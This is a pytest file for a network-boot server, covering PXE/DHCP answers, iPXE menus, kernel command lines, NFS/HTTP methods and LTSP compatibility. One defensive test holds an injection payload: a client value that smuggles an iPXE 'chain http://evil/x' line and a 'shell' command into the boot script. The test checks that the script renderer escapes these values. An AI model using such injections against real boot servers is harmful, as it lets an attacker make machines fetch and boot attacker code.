"""The boot layer alone: no root, no sockets, served roots in tmp_path.

What a client is answered over DHCP, which image it boots, its menu, its kernel command
line and its settings, all asked of one BootPolicy as the transports do.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from netboot import config as config_mod
from netboot import layout
from netboot.boot import BootEntry, BootMenu, BootPolicy, ClientFacts, NoAnswer, PxeAnswer, ipxe
from netboot.boot.facts import facts_from_query
from netboot.dhcp.facts import facts_from_request
from netboot.dhcp.packet import DhcpRequest

SERVER = "192.0.2.1"
MAC = "52:54:00:00:00:01"


def make_config(tmp_path: Path, toml: dict[str, Any] | None = None) -> config_mod.Config:
    data: dict[str, Any] = {"server": {"root": str(tmp_path / "srv")}}
    for section, values in (toml or {}).items():
        data.setdefault(section, {}).update(values)
    return config_mod.parse(data, "test")


def policy_for(tmp_path: Path, toml: dict[str, Any] | None = None, port: int = 80) -> BootPolicy:
    return BootPolicy(make_config(tmp_path, toml), SERVER, port)


def add_binaries(tmp_path: Path, *names: str) -> None:
    directory = tmp_path / "srv" / layout.IPXE_DIR
    directory.mkdir(parents=True, exist_ok=True)
    for name in names:
        (directory / name).write_bytes(b"ipxe")


def publish(root: Path, name: str, version: str = "20260101-000000", *, initrd: bool = True):
    """A published version as `netboot image` lays it out (contents are test bytes)."""
    directory = layout.version_dir(root, name, version)
    directory.mkdir(parents=True)
    squashfs = b"squashfs " + name.encode()
    (directory / layout.SQUASHFS).write_bytes(squashfs)
    (directory / layout.KERNEL).write_bytes(b"kernel")
    (directory / (layout.INITRD if initrd else layout.STANDALONE_INITRD)).write_bytes(b"i")
    manifest = {"size": len(squashfs), "sha256": hashlib.sha256(squashfs).hexdigest()}
    (directory / layout.MANIFEST).write_text(json.dumps(manifest))
    (layout.image_dir(root, name) / layout.CURRENT).symlink_to(f"{layout.VERSIONS}/{version}")
    return directory


# --- DHCP boot answers ------------------------------------------------------------------------

ALL_BINARIES = ("undionly.kpxe", "snponly-ia32.efi", "snponly.efi", "ipxe.efi", "snponly-arm64.efi")


@pytest.mark.parametrize(
    ("arch", "boot_file", "firmware"),
    [
        (0, "ipxe/undionly.kpxe", "bios"),
        (None, "ipxe/undionly.kpxe", "bios"),  # PXE 2.1 ROMs without option 93
        (6, "ipxe/snponly-ia32.efi", "efi-ia32"),
        (7, "ipxe/snponly.efi", "efi-x64"),
        (9, "ipxe/snponly.efi", "efi-x64"),
        (11, "ipxe/snponly-arm64.efi", "efi-arm64"),
    ],
)
def test_pxe_rom_gets_the_binary_for_its_arch(
    tmp_path: Path, arch: int | None, boot_file: str, firmware: str
) -> None:
    add_binaries(tmp_path, *ALL_BINARIES)
    answer = policy_for(tmp_path).pxe_answer(ClientFacts(MAC, arch=arch))
    assert answer == PxeAnswer(boot_file, "PXEClient", firmware, 0 if arch is None else arch, False)
    assert not answer.via_http


def test_uefi_http_boot_gets_a_url_with_the_real_port(tmp_path: Path) -> None:
    add_binaries(tmp_path, "ipxe.efi")
    answer = policy_for(tmp_path, port=8080).pxe_answer(ClientFacts(MAC, arch=16))
    assert answer == PxeAnswer(
        f"http://{SERVER}:8080/ipxe/ipxe.efi", "HTTPClient", "efi-x64-http", 16, False
    )
    assert answer.via_http


def test_http_client_vendor_class_gets_a_url_for_its_arch(tmp_path: Path) -> None:
    add_binaries(tmp_path, "snponly.efi")
    answer = policy_for(tmp_path).pxe_answer(ClientFacts(MAC, arch=7, http_client=True))
    assert isinstance(answer, PxeAnswer)
    assert (answer.boot_file, answer.vendor_class) == (
        f"http://{SERVER}/ipxe/snponly.efi",
        "HTTPClient",
    )


def test_ipxe_gets_the_script_url_not_the_binary(tmp_path: Path) -> None:
    policy = policy_for(tmp_path, port=8080)  # no binaries at all: iPXE needs none
    answer = policy.pxe_answer(ClientFacts(MAC, arch=7, ipxe=True))
    assert answer == PxeAnswer(f"http://{SERVER}:8080/boot.ipxe", "PXEClient", "efi-x64", 7, True)
    unknown = policy.pxe_answer(ClientFacts(MAC, ipxe=True))
    assert isinstance(unknown, PxeAnswer)
    assert (unknown.firmware, unknown.arch) == ("unknown", None)


def test_x64_falls_back_to_ipxe_efi(tmp_path: Path) -> None:
    add_binaries(tmp_path, "ipxe.efi")
    answer = policy_for(tmp_path).pxe_answer(ClientFacts(MAC, arch=9))
    assert isinstance(answer, PxeAnswer)
    assert answer.boot_file == "ipxe/ipxe.efi"


def test_missing_binary_is_no_answer_naming_what_was_looked_for(tmp_path: Path) -> None:
    add_binaries(tmp_path, "undionly.kpxe")
    policy = policy_for(tmp_path)
    arm = policy.pxe_answer(ClientFacts(MAC, arch=11))
    assert arm == NoAnswer("no iPXE binary for efi-arm64 (looked for snponly-arm64.efi)")
    x64 = policy.pxe_answer(ClientFacts(MAC, arch=7))
    assert x64 == NoAnswer("no iPXE binary for efi-x64 (looked for snponly.efi, ipxe.efi)")


def test_unknown_arch_is_no_answer(tmp_path: Path) -> None:
    add_binaries(tmp_path, *ALL_BINARIES)
    answer = policy_for(tmp_path).pxe_answer(ClientFacts(MAC, arch=99))
    assert answer == NoAnswer("unsupported client architecture 99")


def test_binaries_are_looked_up_in_the_tftp_root(tmp_path: Path) -> None:
    tftp = tmp_path / "tftp"
    (tftp / layout.IPXE_DIR).mkdir(parents=True)
    (tftp / layout.IPXE_DIR / "undionly.kpxe").write_bytes(b"ipxe")
    policy = policy_for(tmp_path, {"server": {"tftp_root": str(tftp)}})
    assert isinstance(policy.pxe_answer(ClientFacts(MAC, arch=0)), PxeAnswer)


def test_dhcp_request_becomes_facts() -> None:
    request = DhcpRequest(
        op=1,
        htype=1,
        hlen=6,
        xid=1,
        secs=0,
        flags=0,
        ciaddr="0.0.0.0",
        giaddr="10.0.0.1",
        chaddr=bytes.fromhex("525400000001") + bytes(10),
        options={53: 1, 60: b"HTTPClient:Arch:00016", 77: b"iPXE"},
    )
    facts = facts_from_request(request)
    assert facts == ClientFacts(MAC, arch=16, ipxe=True, http_client=True, relay="10.0.0.1")
    assert facts.firmware == "efi-x64-http"
    local = facts_from_request(
        DhcpRequest(1, 1, 6, 1, 0, 0, "0.0.0.0", "0.0.0.0", bytes(16), {53: 1})
    )
    assert local.relay is None and local.arch is None and not local.ipxe


# --- what a client boots ----------------------------------------------------------------------


def test_urls_carry_the_port_only_when_it_is_not_80(tmp_path: Path) -> None:
    assert policy_for(tmp_path).script_url == f"http://{SERVER}/boot.ipxe"
    assert policy_for(tmp_path, port=8080).http_base == f"http://{SERVER}:8080"


def test_menu_with_no_images_boots_the_local_disk(tmp_path: Path) -> None:
    policy = policy_for(tmp_path)
    menu = policy.menu(ClientFacts(MAC, ipxe=True, platform="pcbios"))
    assert menu.entries == () and menu.default is None
    script = ipxe.menu_script(menu)
    assert "choose --default local" in script
    assert "item --gap -- (no images published yet: run netboot image)" in script
    assert "sanboot --no-describe --drive 0x80" in script


def test_default_is_the_clients_image_else_default_image_else_the_first(tmp_path: Path) -> None:
    root = tmp_path / "srv"
    for name in ("alpha", "bravo", "charlie"):
        publish(root, name)
    toml = {
        "boot": {"default_image": "bravo"},
        "clients": {MAC: {"image": "charlie"}, "52:54:00:00:00:02": {"image": "gone"}},
    }
    policy = policy_for(tmp_path, toml)

    def default(mac: str) -> str | None:
        chosen = policy.menu(ClientFacts(mac)).default
        return chosen.name if chosen else None

    assert default(MAC) == "charlie"
    assert default("52:54:00:00:00:03") == "bravo"
    assert default("52:54:00:00:00:02") == "alpha"  # a name not published: the first
    assert policy_for(tmp_path).menu(ClientFacts(MAC)).default.name == "alpha"  # type: ignore[union-attr]


def test_http_method_cmdline(tmp_path: Path) -> None:
    root = tmp_path / "srv"
    vdir = publish(root, "bookworm", "20261123-080000")
    (root / layout.ADDON_INITRD).write_bytes(b"addon")
    (entry,) = policy_for(tmp_path, port=8080).entries()
    base = f"http://{SERVER}:8080"
    manifest = json.loads((vdir / layout.MANIFEST).read_text())
    assert entry.cmdline == (
        "boot=netboot ip=dhcp BOOTIF=01-${mac:hexhyp} "
        f"netboot.server={base} netboot.image=bookworm netboot.version=20261123-080000 "
        "netboot.method=http "
        f"netboot.url={base}/images/bookworm/versions/20261123-080000/root.squashfs "
        f"netboot.size={manifest['size']} netboot.sha256={manifest['sha256']} "
        f"netboot.settings={base}/clients/${{mac}}"
    )
    assert entry.kernel == "/images/bookworm/versions/20261123-080000/vmlinuz"
    assert entry.initrds == (
        ("initrd.img", "/images/bookworm/versions/20261123-080000/initrd.img"),
        ("netboot.img", "/netboot.img"),
    )


def test_nfs_method_mounts_from_this_server_by_default(tmp_path: Path) -> None:
    root = tmp_path / "srv"
    publish(root, "bookworm", "20261123-080000")
    (entry,) = policy_for(tmp_path, {"boot": {"method": "nfs"}}, port=8080).entries()
    assert "netboot.method=nfs" in entry.cmdline
    assert f"netboot.nfs={SERVER}:{root} " in entry.cmdline  # the address, never host:port
    assert "netboot.path=images/bookworm/versions/20261123-080000/root.squashfs" in entry.cmdline
    assert "netboot.toram=1" in entry.cmdline
    assert "netboot.url=" not in entry.cmdline


def test_nfs_method_with_its_own_server_and_export(tmp_path: Path) -> None:
    publish(tmp_path / "srv", "bookworm")
    boot = {"method": "nfs", "nfs_server": "10.0.0.9", "nfs_root": "/export", "to_ram": False}
    (entry,) = policy_for(tmp_path, {"boot": boot}).entries()
    assert "netboot.nfs=10.0.0.9:/export " in entry.cmdline
    assert "netboot.toram=0" in entry.cmdline


def test_standalone_image_boots_over_http_even_in_nfs_mode(tmp_path: Path) -> None:
    publish(tmp_path / "srv", "tiny", initrd=False)
    (entry,) = policy_for(tmp_path, {"boot": {"method": "nfs"}}).entries()
    assert "netboot.method=http" in entry.cmdline
    assert entry.initrds[0][0] == "standalone.img"


def test_client_settings_overlay_and_kernel_params(tmp_path: Path) -> None:
    publish(tmp_path / "srv", "bookworm")
    toml = {
        "boot": {"kernel_params": "quiet"},
        "clients": {"hostname": "pc", "kernel_params": "x=1", MAC: {"hostname": "pc01"}},
    }
    policy = policy_for(tmp_path, toml)
    assert policy.client_settings(MAC) == {"hostname": "pc01", "kernel_params": "x=1"}
    assert policy.client_settings("52:54:00:00:00:09")["hostname"] == "pc"
    menu = policy.menu(ClientFacts(MAC))
    (entry,) = menu.entries
    assert menu.kernel_params == "quiet x=1"
    assert menu.cmdline(entry) == f"{entry.cmdline} quiet x=1"
    assert f"{entry.cmdline} quiet x=1 || goto failed" in ipxe.menu_script(menu)


def test_ltsp_entries_only_in_compat_mode(tmp_path: Path) -> None:
    ltsp = tmp_path / "ltsp"
    tftp = tmp_path / "tftp-ltsp"
    (ltsp / "images").mkdir(parents=True)
    (ltsp / "images" / "focal.img").write_bytes(b"squashfs")
    (ltsp / "images" / "broken.img").write_bytes(b"squashfs")  # no kernel: not offered
    (tftp / "focal").mkdir(parents=True)
    (tftp / "focal" / "vmlinuz").write_bytes(b"kernel")
    (tftp / "focal" / "initrd.img").write_bytes(b"initrd")
    server = {"ltsp_root": str(ltsp), "ltsp_tftp_root": str(tftp)}
    assert policy_for(tmp_path, {"server": server}).entries() == []
    entries = policy_for(tmp_path, {"server": {**server, "ltsp_compat": True}}).entries()
    assert entries == [
        BootEntry(
            name="ltsp-focal",
            label="focal (LTSP)",
            kernel="/ltsp/focal/vmlinuz",
            initrds=(("ltsp.img", "/ltsp/ltsp.img"), ("initrd.img", "/ltsp/focal/initrd.img")),
            cmdline=(
                f"root=/dev/nfs nfsroot={SERVER}:{ltsp} ltsp.image=images/focal.img "
                "loop.max_part=9 BOOTIF=01-${mac:hexhyp}"
            ),
            source="ltsp",
        )
    ]
    # a moved site: NFS from another server and export
    boot = {"nfs_server": "192.0.2.9", "nfs_root": "/export/ltsp"}
    moved = policy_for(tmp_path, {"server": {**server, "ltsp_compat": True}, "boot": boot})
    assert "nfsroot=192.0.2.9:/export/ltsp " in moved.entries()[0].cmdline


# --- facts from the boot script URL and rendering ---------------------------------------------


def test_facts_from_the_query_string() -> None:
    facts = facts_from_query(
        {"mac": "52-54-00-00-00-01", "platform": "efi", "buildarch": "x86_64", "serial": "S1"}
    )
    assert facts == ClientFacts(MAC, ipxe=True, platform="efi", buildarch="x86_64", serial="S1")
    assert facts.firmware == "efi" and facts.efi
    assert len(facts_from_query({"mac": MAC, "uuid": "u" * 10_000}).uuid) == 256
    with pytest.raises(ValueError):
        facts_from_query({"mac": "nonsense"})


def test_client_supplied_values_cannot_break_out_of_the_script() -> None:
    evil = "efi\nchain http://evil/x\n#${x}"
    entry = BootEntry("x", "x\nshell;", "/k", (), "cmd")
    menu = BootMenu(
        client=ClientFacts(MAC, platform=evil, buildarch="x86_64\nshell"),
        entries=(entry,),
        default=entry,
        timeout=5,
        kernel_params="",
        base=f"http://{SERVER}",
        server=SERVER,
    )
    script = ipxe.menu_script(menu)
    assert "evil" in script  # kept as text...
    assert "\nchain http://evil" not in script  # ...but never as a line of its own
    assert "${x}" not in script
    assert "\nshell;" not in script and "item img-x xshell" in script
    header = "# netboot boot script for 52:54:00:00:00:01 (efichain http://evil/xx/x86_64shell)"
    assert header in script


def test_chain_script_names_the_script_url(tmp_path: Path) -> None:
    policy = policy_for(tmp_path, port=8080)
    script = ipxe.chain_script(policy.script_url)
    assert f"chain http://{SERVER}:8080/boot.ipxe?mac=${{mac:hexhyp}}&platform=" in script


def test_transfer_multicast_goes_on_the_cmdline_site_wide_and_per_client(tmp_path: Path) -> None:
    publish(tmp_path / "srv", "bookworm")
    mac = "52:54:00:00:00:07"
    config = {"boot": {"transfer": "http"}, "clients": {mac: {"transfer": "multicast"}}}
    policy = policy_for(tmp_path, config)
    (plain,) = policy.entries("52:54:00:00:00:08")
    (own,) = policy.entries(mac)
    assert "netboot.transfer" not in plain.cmdline
    assert "netboot.transfer=multicast" in own.cmdline
    (site,) = policy_for(tmp_path, {"boot": {"transfer": "multicast"}}).entries()
    assert "netboot.transfer=multicast" in site.cmdline
    (nfs,) = policy_for(tmp_path, {"boot": {"transfer": "multicast", "method": "nfs"}}).entries()
    assert "netboot.transfer" not in nfs.cmdline  # multicast is a way to fetch over HTTP


@pytest.mark.parametrize(
    "toml",
    [{"boot": {"transfer": "udp"}}, {"clients": {"transfer": "torrent"}}],
    ids=["boot", "clients"],
)
def test_transfer_must_be_http_or_multicast(tmp_path: Path, toml: dict[str, Any]) -> None:
    with pytest.raises(config_mod.ConfigError, match="transfer: must be one of"):
        make_config(tmp_path, toml)


def test_ltsp_ipxe_client_settings_are_read_in_compat_mode(tmp_path: Path) -> None:
    ltsp, tftp = tmp_path / "ltsp", tmp_path / "tftp-ltsp"
    for name in ("focal", "jammy"):
        (ltsp / "images").mkdir(parents=True, exist_ok=True)
        (ltsp / "images" / f"{name}.img").write_bytes(b"squashfs")
        (tftp / name).mkdir(parents=True)
        (tftp / name / "vmlinuz").write_bytes(b"kernel")
        (tftp / name / "initrd.img").write_bytes(b"initrd")
    (tftp / "ltsp.ipxe").write_text(
        "#!ipxe\nset cmdline_ltsp BOOTIF=01-${mac:hexhyp}\nset menu-timeout 5000\n"
        "goto ${mac} || goto start\n"
        ":52:54:00:00:00:01\nset img jammy\nset cmdline_client quiet splash\n"
        "set menu-timeout 0\ngoto start\n"
        ":52:54:00:00:00:02\nset img focal\ngoto start\n:start\nset img other\n"
    )
    server = {"ltsp_root": str(ltsp), "ltsp_tftp_root": str(tftp), "ltsp_compat": True}
    toml = {"server": server, "boot": {"kernel_params": "site=1"}}
    menu = policy_for(tmp_path, toml).menu(ClientFacts(MAC, ipxe=True))
    assert menu.default.name == "ltsp-jammy"
    assert menu.kernel_params == "site=1 quiet splash"
    assert menu.timeout == 0
    other = policy_for(tmp_path, toml).menu(ClientFacts("52:54:00:00:00:02", ipxe=True))
    assert (other.default.name, other.kernel_params, other.timeout) == ("ltsp-focal", "site=1", 5)
    # netboot's own [clients] settings win over ltsp.ipxe
    toml["clients"] = {MAC: {"image": "ltsp-focal", "kernel_params": "mine=1"}}
    mine = policy_for(tmp_path, toml).menu(ClientFacts(MAC, ipxe=True))
    assert (mine.default.name, mine.kernel_params) == ("ltsp-focal", "site=1 quiet splash mine=1")
    # outside compat mode the file is not read
    server["ltsp_compat"] = False
    assert policy_for(tmp_path, toml).ltsp_client(MAC).image == ""
